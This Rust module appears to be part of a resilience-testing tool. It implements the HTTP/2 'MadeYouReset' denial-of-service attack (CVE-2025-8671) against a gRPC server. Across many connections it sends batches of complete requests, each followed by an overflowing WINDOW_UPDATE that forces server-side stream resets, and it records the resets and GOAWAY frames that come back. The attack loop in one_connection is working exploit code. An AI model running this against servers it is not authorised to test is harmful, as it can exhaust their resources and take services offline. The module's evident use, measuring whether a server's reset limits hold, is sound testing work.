//! `madeyoureset` (CVE-2025-8671, "MadeYouReset"): the client never resets a
//! stream itself, which rapid-reset defences count; it makes the *server*
//! reset each stream. Every stream here is a complete `ListRoutes(page 25)`
//! request followed by a WINDOW_UPDATE of 2^31-1 on the same stream, which
//! overflows the server's send window: a stream error, so the server answers
//! RST_STREAM(FLOW_CONTROL_ERROR), while its handler may still build the
//! 5 MB page for nobody. The stream no longer counts against
//! SETTINGS_MAX_CONCURRENT_STREAMS, so the next one follows at once.
//!
//! h2's guard counts such "local error resets" and sends GOAWAY
//! ENHANCE_YOUR_CALM ("too_many_internal_resets") past a limit (1024 by
//! default), unless the limit is switched off, as tonic >= 0.14.3 does
//! unless told otherwise.

use std::{
    future::Future,
    net::SocketAddr,
    sync::{Arc, Mutex},
    time::Duration,
};

use serde::Serialize;
use tokio::{sync::mpsc, task::JoinSet, time::Instant};

use super::{Context, Findings, FramesSeen, Tally, describe_tally, watch_frames};
use crate::{Error, frame::MAX_WINDOW, grpc, raw::RawConn};

/// Streams queued per write: 50 streams are about 12 KB of frames.
const BATCH: u32 = 50;

/// After the last stream, how long to keep reading for the server's last
/// RST_STREAMs and a GOAWAY: 2 s.
const LINGER: Duration = Duration::from_secs(2);

#[derive(Debug, Default, Serialize)]
struct ConnResult {
    streams_sent: u32,
    seen: FramesSeen,
    #[serde(skip_serializing_if = "Option::is_none")]
    error: Option<String>,
}

#[derive(Debug, Serialize)]
struct Details {
    connections: u32,
    streams_sent: u32,
    rst_stream_received: Tally,
    goaway_connections: u32,
    goaway_codes: Tally,
    /// The first GOAWAY seen, in full.
    first_goaway: Option<super::GoawaySeen>,
    connections_closed: u32,
    #[serde(skip_serializing_if = "Option::is_none")]
    first_error: Option<String>,
}

pub async fn run(ctx: &Context, tripped: impl Future<Output = ()>) -> Result<Findings, Error> {
    let knobs = &ctx.knobs;
    let deadline = Instant::now() + Duration::from_secs(knobs.reset_secs);
    let results = Arc::new(Mutex::new(Vec::new()));
    let mut connections = JoinSet::new();
    for _ in 0..knobs.reset_conns {
        let results = results.clone();
        let (addr, streams) = (ctx.target.addr(), knobs.reset_streams);
        connections.spawn(async move {
            let result = one_connection(addr, streams, deadline).await;
            results
                .lock()
                .unwrap_or_else(|e| e.into_inner())
                .push(result);
        });
    }
    let all_done = async { while connections.join_next().await.is_some() {} };
    let guard_tripped = tokio::select! {
        () = all_done => false,
        () = tripped => true,
    };
    connections.abort_all();
    while connections.join_next().await.is_some() {}

    let results = std::mem::take(&mut *results.lock().unwrap_or_else(|e| e.into_inner()));
    let mut details = Details {
        connections: knobs.reset_conns,
        streams_sent: 0,
        rst_stream_received: Tally::new(),
        goaway_connections: 0,
        goaway_codes: Tally::new(),
        first_goaway: None,
        connections_closed: 0,
        first_error: None,
    };
    for r in &results {
        details.streams_sent += r.streams_sent;
        for (code, n) in &r.seen.rst_stream {
            *details.rst_stream_received.entry(code.clone()).or_default() += n;
        }
        if let Some(g) = &r.seen.goaway {
            details.goaway_connections += 1;
            let label = match g.debug_data.as_str() {
                "" => g.error_code.clone(),
                debug => format!("{} {debug:?}", g.error_code),
            };
            *details.goaway_codes.entry(label).or_default() += 1;
            let earlier = details
                .first_goaway
                .as_ref()
                .is_some_and(|f| f.after_s <= g.after_s);
            if !earlier {
                details.first_goaway = Some(g.clone());
            }
        }
        if r.seen.closed_after_s.is_some() {
            details.connections_closed += 1;
        }
        if details.first_error.is_none() {
            details.first_error.clone_from(&r.error);
        }
    }
    let resets: usize = details.rst_stream_received.values().sum();
    let mut outcome = match &details.first_goaway {
        Some(first) => format!(
            "GOAWAY {} on {}/{} connections (first after {:.2}s, last stream {})",
            describe_tally(&details.goaway_codes),
            details.goaway_connections,
            details.connections,
            first.after_s,
            first.last_stream_id
        ),
        None => format!("no GOAWAY on {} connections", details.connections),
    };
    outcome.push_str(&format!(
        "; {} streams sent, {} reset by the server ({})",
        details.streams_sent,
        resets,
        describe_tally(&details.rst_stream_received)
    ));
    if guard_tripped {
        outcome.push_str("; ENDED EARLY by the memory guard");
    }
    Ok(Findings::new(outcome, details))
}

async fn one_connection(addr: SocketAddr, streams: u32, deadline: Instant) -> ConnResult {
    let mut result = ConnResult::default();
    let mut conn = match RawConn::connect(addr).await {
        Ok(conn) => conn,
        Err(e) => {
            result.error = Some(e.to_string());
            return result;
        }
    };
    if let Err(e) = conn.handshake().await {
        result.error = Some(format!("handshake: {e}"));
        return result;
    }
    let started = Instant::now();
    let authority = addr.to_string();
    let headers = grpc::request_headers(&authority, grpc::LIST_ROUTES, grpc::CONTENT_TYPE);
    let body = grpc::framed(&grpc::full_page_request());
    let (reader, mut writer) = conn.into_split();
    let seen = Arc::new(Mutex::new(FramesSeen::default()));
    let (ping_tx, mut ping_rx) = mpsc::channel(16);
    let watcher = tokio::spawn(watch_frames(reader, seen.clone(), ping_tx, started));
    let goaway_or_closed = || {
        let seen = seen.lock().unwrap_or_else(|e| e.into_inner());
        seen.goaway.is_some() || seen.closed_after_s.is_some()
    };

    let mut stream_id: u32 = 1;
    while result.streams_sent < streams && Instant::now() < deadline && !goaway_or_closed() {
        while let Ok(payload) = ping_rx.try_recv() {
            writer.queue_ping(payload, true);
        }
        let batch = BATCH.min(streams - result.streams_sent);
        for _ in 0..batch {
            writer.queue_headers(stream_id, &headers, false);
            writer.queue_data(stream_id, &body, true);
            // The request is complete; now overflow the window the server
            // sends in: 65,535 + 2^31-1 > 2^31-1, a stream error.
            writer.queue_window_update(stream_id, MAX_WINDOW);
            stream_id += 2;
        }
        if let Err(e) = writer.flush().await {
            result.error = Some(format!("write: {e}"));
            break;
        }
        result.streams_sent += batch;
        // Let the reader run between batches.
        tokio::task::yield_now().await;
    }
    // Read what the server still has to say, then close.
    let linger_until = (Instant::now() + LINGER).min(deadline + LINGER);
    while Instant::now() < linger_until && !goaway_or_closed() {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    watcher.abort();
    result.seen = seen.lock().unwrap_or_else(|e| e.into_inner()).clone();
    result
}
